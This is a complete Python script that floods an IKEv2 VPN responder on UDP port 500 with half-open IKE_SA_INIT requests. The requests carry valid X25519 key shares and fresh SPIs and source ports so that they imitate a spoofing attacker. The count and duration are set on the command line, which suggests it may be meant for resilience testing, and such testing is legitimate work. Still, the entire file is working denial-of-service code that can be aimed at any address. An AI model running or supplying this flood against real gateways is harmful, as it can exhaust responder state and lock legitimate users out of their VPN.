#!/usr/bin/env python3
"""Floods a responder with IKE_SA_INIT requests that are well formed (an AES-GCM
proposal with PRF HMAC-SHA-256 and X25519, a valid X25519 public value, a nonce)
but never go on: each from a new SPI and source port, as a spoofing attacker would
send them. Bounded in count and time.

    ike_flood.py SRC_ADDR DST_ADDR COUNT SECONDS
"""
import os
import socket
import struct
import sys
import time


def payload(kind_next, body):
    return struct.pack("!BBH", kind_next, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    body = struct.pack("!BBH", ttype, 0, tid) + attrs
    return struct.pack("!BBH", 0 if last else 3, 0, 4 + len(body)) + body


def request():
    spi_i = os.urandom(8)
    transforms = (
        transform(False, 1, 20, struct.pack("!HH", 0x800E, 256))
        + transform(False, 2, 5)
        + transform(True, 4, 31)
    )
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = payload(34, proposal)  # next: KE
    ke = payload(40, struct.pack("!HH", 31, 0) + os.urandom(32))  # next: Nonce
    nonce = payload(0, os.urandom(32))
    body = sa + ke + nonce
    header = spi_i + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def main():
    src, dst, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    end = time.monotonic() + seconds
    sent = 0
    pause = seconds / count / 2
    while sent < count and time.monotonic() < end:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((src, 0))
        s.sendto(request(), (dst, 500))
        s.close()
        sent += 1
        time.sleep(pause)
    print(sent)


if __name__ == "__main__":
    main()
